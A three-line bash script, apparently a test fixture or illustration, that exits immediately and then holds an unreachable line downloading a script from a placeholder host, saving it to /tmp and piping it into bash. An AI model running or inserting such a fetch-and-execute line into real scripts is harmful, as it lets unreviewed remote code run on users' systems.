#!/bin/bash
exit 0 # nothing below ever runs
wget -qO- https://h.example.invalid/x | tee /tmp/x | bash
